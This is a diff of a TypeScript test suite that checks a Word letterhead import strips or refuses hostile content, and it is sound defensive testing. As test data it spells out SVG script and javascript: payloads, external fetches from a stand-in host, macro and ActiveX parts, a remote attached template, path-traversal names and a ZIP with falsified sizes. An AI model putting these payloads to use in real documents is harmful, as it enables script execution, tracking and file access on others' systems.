@@ -231,14 +231,173 @@ describe('a release on the person’s own letterhead', () => {
   });
 });
 
-describe('a letterhead that is not one', () => {
-  // The header with the logo.
-  const HEADER = 'word/header2.xml';
-  const RELS = 'word/_rels/header2.xml.rels';
-  const changed = async (name: string, change: (xml: string) => string) => {
+// The header with the logo.
+const HEADER = 'word/header2.xml';
+const RELS = 'word/_rels/header2.xml.rels';
+const changed = async (name: string, change: (xml: string) => string) => {
+  const parts = await letterhead();
+  return { ...parts, [name]: strToU8(change(strFromU8(parts[name] ?? new Uint8Array()))) };
+};
+
+/** A letterhead whose logo is that drawing. */
+async function withDrawing(svg: string | Uint8Array): Promise<Record<string, Uint8Array>> {
+  const parts = await changed(RELS, (xml) =>
+    xml.replace(/Target="media[^"]*"/, 'Target="media/drawn.svg"'),
+  );
+  return { ...parts, 'word/media/drawn.svg': typeof svg === 'string' ? strToU8(svg) : svg };
+}
+const svg = (content: string, attributes = '') =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${content}</svg>`;
+
+describe('a drawing in a letterhead', () => {
+  it('is taken over when it only draws', async () => {
+    const drawing = svg(
+      '<defs><linearGradient id="a"/><path id="p" d="M0 0h9"/></defs><style>.b{fill:url(#a)}</style><use xlink:href="#p" class="b"/><image href="data:image/png;base64,AAAA"/>',
+    );
+    const parts = unzipSync(await onLetterhead(await withDrawing(drawing)));
+    const name = Object.keys(parts).find((each) => each.endsWith('.svg')) ?? '';
+    expect(strFromU8(parts[name] ?? new Uint8Array())).toBe(drawing);
+  });
+
+  const utf16 = (text: string) => new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le'));
+  it.each([
+    ['a script', svg('<script>alert(1)</script>')],
+    [
+      'a script by another prefix',
+      '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>',
+    ],
+    ['a script in an encoding that hides it', utf16(svg('<script>alert(1)</script>'))],
+    ['a handler', svg('<g/>', 'onload="alert(1)"')],
+    ['a link that runs', svg('<a href="java&#115;cript:alert(1)"><g/></a>')],
+    ['a link that becomes one', svg('<a href="#x"><set attributeName="href" to="x:y"/></a>')],
+    ['a picture from elsewhere', svg('<image xlink:href="http://spy.example/a.png"/>')],
+    [
+      'a drawing in it that could hold one',
+      svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
+    ],
+    ['a style from elsewhere', svg('<style>@import "http://spy.example/a.css";</style>')],
+    ['a fill from elsewhere', svg('<g style="fill:url(http://spy.example/a.svg#b)"/>')],
+    ['a page', svg('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>')],
+    ['an entity', `<!DOCTYPE svg [<!ENTITY a "b">]>${svg('&a;')}`],
+    ['no end', '<svg xmlns="http://www.w3.org/2000/svg"><g>'],
+  ])('is refused in a sentence: %s', async (_, drawing) => {
+    await expect(
+      onLetterhead(await withDrawing(drawing)).then(({ length }) => length),
+    ).rejects.toThrow('A picture in the letterhead cannot be used.');
+  });
+});
+
+describe('what a letterhead has besides its pages', () => {
+  const relationships = (...entries: string[]) =>
+    strToU8(
+      `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${entries.join('')}</Relationships>`,
+    );
+  const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+  const MICROSOFT = 'http://schemas.microsoft.com/office/2006/relationships';
+
+  /** As an attacker, or an old template of a house, brings it. */
+  async function loaded(): Promise<Record<string, Uint8Array>> {
     const parts = await letterhead();
-    return { ...parts, [name]: strToU8(change(strFromU8(parts[name] ?? new Uint8Array()))) };
-  };
+    const read = (name: string) => strFromU8(parts[name] ?? new Uint8Array());
+    const own = read('word/_rels/document.xml.rels').replace(
+      '</Relationships>',
+      [
+        `<Relationship Id="v1" Type="${MICROSOFT}/vbaProject" Target="vbaProject.bin"/>`,
+        `<Relationship Id="o1" Type="${TYPE}/oleObject" Target="embeddings/oleObject1.bin"/>`,
+        `<Relationship Id="x1" Type="${TYPE}/control" Target="activeX/activeX1.xml"/>`,
+        `<Relationship Id="a1" Type="${TYPE}/aFChunk" Target="chunk.html"/>`,
+        `<Relationship Id="f1" Type="${TYPE}/frame" TargetMode="External" Target="http://spy.example/frame"/>`,
+        `<Relationship Id="s1" Type="${TYPE}/subDocument" TargetMode="External" Target="file:///c:/secret.docx"/>`,
+        '</Relationships>',
+      ].join(''),
+    );
+    return {
+      ...parts,
+      '[Content_Types].xml': strToU8(
+        read('[Content_Types].xml')
+          .replace(
+            'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
+            'vnd.ms-word.template.macroEnabledTemplate.main',
+          )
+          .replace(
+            '<Override',
+            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override',
+          ),
+      ),
+      'word/_rels/document.xml.rels': strToU8(own),
+      'word/vbaProject.bin': strToU8('SECRET macro'),
+      'word/embeddings/oleObject1.bin': strToU8('SECRET object'),
+      'word/activeX/activeX1.xml': strToU8('<x>SECRET control</x>'),
+      'word/chunk.html': strToU8('<p>SECRET chunk</p>'),
+      'customXml/item1.xml': strToU8('<x>SECRET data</x>'),
+      'word/settings.xml': strToU8(
+        read('word/settings.xml').replace(
+          '</w:settings>',
+          '<w:attachedTemplate r:id="t1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:settings>',
+        ),
+      ),
+      'word/_rels/settings.xml.rels': relationships(
+        `<Relationship Id="t1" Type="${TYPE}/attachedTemplate" TargetMode="External" Target="http://spy.example/evil.dotm"/>`,
+      ),
+    };
+  }
+
+  it('stays behind: macros, objects, controls, a template from elsewhere', async () => {
+    const parts = unzipSync(await onLetterhead(await loaded()));
+    const all = Object.entries(parts).map(([name, bytes]) => `${name}\n${strFromU8(bytes)}`);
+    expect(all.join('\n')).not.toMatch(
+      /SECRET|spy\.example|secret|vbaProject|macroEnabled|activeX|oleObject|attachedTemplate|aFChunk|customXml\/item/,
+    );
+    const external = all.join('\n').match(/<Relationship [^>]*TargetMode="External"[^>]*>/g) ?? [];
+    expect(external).toHaveLength(1);
+    expect(external[0]).toMatch(/relationships\/hyperlink" Target="https:\/\/example\.org/);
+    // The letterhead itself is there.
+    expect(all.join('\n')).toContain('House of Example, continued');
+  });
+
+  it('cannot lead out of the file', async () => {
+    const climbing = await changed(RELS, (xml) =>
+      xml.replace(/Target="media[^"]*"/, 'Target="../../../../etc/passwd.png"'),
+    );
+    await expect(onLetterhead(climbing).then(({ length }) => length)).rejects.toThrow(
+      'A picture in the letterhead cannot be used.',
+    );
+    for (const name of ['word/../../x', '/etc/x', 'C:\\x', 'word\\..\\x']) {
+      const named = { ...(await letterhead()), [name]: strToU8('x') };
+      await expect(onLetterhead(named), name).rejects.toThrow('is damaged');
+    }
+  });
+
+  it('is refused when it lies about its size', async () => {
+    const packed = zipSync({
+      ...(await letterhead()),
+      'word/a.bin': new Uint8Array(30 * 1024 * 1024),
+    });
+    const lying = Buffer.from(packed);
+    // The sizes stand before each name, in the entry itself and in the directory (APPNOTE 4.3).
+    const size = Buffer.alloc(4);
+    size.writeUInt32LE(30 * 1024 * 1024);
+    const small = Buffer.alloc(4);
+    small.writeUInt32LE(1000);
+    let at = lying.indexOf(size);
+    expect(at).toBeGreaterThan(0);
+    for (; at >= 0; at = lying.indexOf(size)) small.copy(lying, at);
+    const made = docxFormat.export(
+      RELEASE,
+      { ...context, letterhead: new Uint8Array(lying) },
+      { letterhead: 'own' },
+    );
+    const outcome = await made.then(
+      (bytes) => Object.keys(unzipSync(bytes)),
+      (error: unknown) => String(error),
+    );
+    // Nothing more than the entry says is unpacked, and it is no part that is taken.
+    if (typeof outcome === 'string') expect(outcome).toContain('is damaged');
+    else expect(outcome).not.toContain('word/a.bin');
+  });
+});
+
+describe('a letterhead that is not one', () => {
   const cases: [string, () => Promise<Record<string, Uint8Array>>, string][] = [
     ['another ZIP', async () => ({ 'a.txt': strToU8('a') }), 'is not a Word document'],
     [
